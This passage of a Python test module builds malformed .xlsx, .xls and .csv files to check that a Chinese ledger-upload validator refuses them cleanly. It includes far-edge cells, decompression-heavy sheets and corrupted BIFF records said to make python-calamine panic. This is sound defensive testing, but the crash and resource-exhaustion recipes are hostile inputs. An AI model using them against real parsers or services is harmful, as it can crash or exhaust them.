        '<x14:dataValidations count="1" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<x14:dataValidation type="list" allowBlank="1" showInputMessage="1" showErrorMessage="1">'
        "<x14:formula1><xm:f>类别!$A$1:$A$10</xm:f></x14:formula1><xm:sqref>C2:C100</xm:sqref>"
        "</x14:dataValidation></x14:dataValidations></ext>"
        '<ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" '
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
        "<x14:conditionalFormattings><x14:conditionalFormatting "
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<x14:cfRule type="cellIs" priority="1" operator="greaterThan" id="{00000000-0000-0000-0000-000000000001}">'
        "<xm:f>类别!$B$1</xm:f></x14:cfRule><xm:sqref>D2:D100</xm:sqref>"
        "</x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"
    )
    xml = sheet_xml(ledger_rows()).replace("</sheetData>", "</sheetData>" + ext)
    return xlsx([("台账", xml), ("类别", sheet_xml([["街面巡查"], ["法治讲座"]]))])


def _styled_to_the_edge(extra_rows: str = "") -> bytes:
    """The ledger with styled empty cells out to column XFD and styled empty rows down to row
    1,048,576, as LibreOffice and WPS write a sheet whose whole rows or columns were formatted."""
    xml = sheet_xml(ledger_rows())
    for r in range(1, 5):  # a styled empty cell in column XFD on every ledger row
        end = xml.index("</row>", xml.index(f'<row r="{r}">'))
        xml = xml[:end] + f'<c r="H{r}" s="1"/><c r="XFD{r}" s="1"/>' + xml[end:]
    xml = xml.replace(
        "</sheetData>",
        '<row r="5" s="1" customFormat="1"><c r="A5" s="1"/><c r="XFD5" s="1"></c></row>'
        f"{extra_rows}"
        '<row r="1048576" s="1" customFormat="1" ht="15"><c r="XFD1048576" s="1"/></row>'
        "</sheetData>",
    )
    return xlsx([("台账", xml)])


def _backslash_names() -> bytes:
    """The ledger zipped with Windows separators in its part names (xl\\workbook.xml)."""
    source = zipfile.ZipFile(io.BytesIO(valid()))
    return _zip({n.replace("/", "\\"): source.read(n) for n in source.namelist()})


LONG_NOTES = 300


def _long_notes() -> bytes:
    """300 rows, each with a 12,000-character note: the sheet unpacks to 11 MB from about 60 kB."""
    rows = [list(HEADER)] + [
        [D(MAR05 + r % 20), "丰州镇", "街面巡查", 1 + r, "次", "主街", "情况说明" * 3000 + str(r)]
        for r in range(LONG_NOTES)
    ]
    return xlsx([("台账", sheet_xml(rows))])


def _csv_cr(rows: list[list[str]]) -> bytes:
    return "\r".join(",".join(r) for r in rows).encode()


_REAL = "Excel、WPS、LibreOffice 的正常写法"
_add(
    "xls_formula_text_result.xls", _REAL, Loaded(2, {"sheet": {"台账"}}), lambda: _xls(_text_result)
)
_add("x14_dropdown_in_extlst.xlsx", _REAL, Loaded(3), _x14_dropdown)
_add(
    "formula_cached_empty_text.xlsx",
    _REAL,
    Loaded(3),
    lambda: ledger({"G2": Raw(' t="str"><f>IF(D2&gt;0,"","")</f><v/>')}),
)
_add("styled_empty_to_the_edge.xlsx", _REAL, Loaded(3), _styled_to_the_edge)
_add("backslash_part_names.xlsx", _REAL, Loaded(3), _backslash_names)
_add("long_notes_high_ratio.xlsx", _REAL, Loaded(LONG_NOTES), _long_notes)
_add("cr_line_endings.csv", _REAL, Loaded(2), lambda: _csv_cr(_CSV_ROWS))

# Far cells written in ways the XML allows and calamine reads, all measured by a parser.
for _name, _cell_xml in {
    "single_quoted_far_cell.xlsx": "<c r='XFD1048576'><v>1</v></c>",
    "spaced_attribute_far_cell.xlsx": '<c r = "XFD1048576"><v>1</v></c>',
    "angle_in_attribute_far_cell.xlsx": '<c note="a>b" r="XFD1048576"><v>1</v></c>',
    "comment_fakes_sheet_end.xlsx": '<!-- </sheetData> --><c r="XFD1048576"><v>1</v></c>',
}.items():
    _add(
        _name,
        "超出行列上限",
        Refused(("行数过多",), sheet="台账"),
        lambda cell=_cell_xml: _in_row(1048576, cell),
    )

# The limits still hold against real data among styled empty cells.
_add(
    "styled_edge_and_far_value.xlsx",
    "超出行列上限",
    Refused(("行数过多",), sheet="台账"),
    lambda: _styled_to_the_edge('<row r="200000"><c r="A200000"><v>1</v></c></row>'),
)
_add(
    "rows_over_limit_cr.csv",
    "超出行列上限",
    Refused(("行数过多",)),
    lambda: _csv_lines(150_000).replace(b"\n", b"\r"),
)

# =============================================================================================
# Files that make a reader fail: one Chinese refusal each, never a traceback or a crash
# =============================================================================================


def _boundsheet_offset(kind: int, record: bytes) -> bytes:
    """The sheet's stream offset in BOUNDSHEET points past the end (python-calamine panics)."""
    if kind != 0x0085:
        return record
    return record[:5] + b"\xff" + record[6:]


def _formula_length(kind: int, record: bytes) -> bytes:
    """A FORMULA record whose formula claims more bytes than the record has: python-calamine
    panics while reading the cell (a check before reading cannot know every such field)."""
    if kind != 0x0006:
        return record
    return record[:25] + b"\xff" + record[26:]


def _dimensions(first_row: int, last_row: int, first_col: int, last_col: int):
    def rewrite(kind: int, record: bytes) -> bytes:
        if kind != 0x0200:
            return record
        return record[:4] + struct.pack("<IIHHH", first_row, last_row, first_col, last_col, 0)

    return rewrite


def _excel4() -> bytes:
    """An Excel 4.0 worksheet: a bare BIFF4 stream (BOF 0x0409), no OLE container."""
    bof = struct.pack("<HHHHH", 0x0409, 6, 0, 0x0010, 0)
    label = "日期".encode("gbk")
    cell = struct.pack("<HHHHH", 0x0204, 8 + len(label), 0, 0, 0x0F) + struct.pack("<H", len(label))
    return bof + cell + label + struct.pack("<HH", 0x000A, 0)


def _csv_long_field() -> bytes:
    """A quoted field longer than the csv module accepts (131,072 characters)."""
    head = ",".join(_CSV_ROWS[0]) + '\r\n2023-03-05,丰州镇,街面巡查,2,"'
    return (head + "长" * 200_000 + '"\r\n').encode()


_FAIL = "读取程序出错的文件"
_add("xls_reader_panic.xls", _FAIL, Refused(("已损坏", "另存为")), lambda: _xls(_formula_length))
_add(
    "xls_sheet_outside_stream.xls",
    _FAIL,
    Refused(("已损坏", "另存为")),
    lambda: _xls(_boundsheet_offset),
)
_add(
    "xls_dimensions_beyond_excel.xls",
    _FAIL,
    Refused(("已损坏", "表格范围无效")),
    lambda: _xls(_dimensions(0, 1 << 20, 0, 16384)),
)
_add(
    "xls_dimensions_inverted.xls",
    _FAIL,
    Refused(("已损坏",)),
    lambda: _xls(_dimensions(5, 2, 0, 5)),
)
_add("excel4_worksheet.xls", _FAIL, Refused(("Excel 97 之前的旧格式", "另存为")), _excel4)
_add("csv_field_too_long.csv", _FAIL, Refused(("CSV 文件格式有误",)), _csv_long_field)


def all_names() -> list[str]:
    """Every hostile file this module builds."""
    return sorted(HOSTILE)


def build(out_dir: Path) -> dict[str, Path]:
    """Write every hostile file into out_dir; returns file name -> path."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    written = {}
    for name in all_names():
        path = out_dir / name
        path.write_bytes(_MAKERS[name]())
        written[name] = path
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent / "bad"
    files = build(target)
    print(f"{len(files)} files written to {target}")
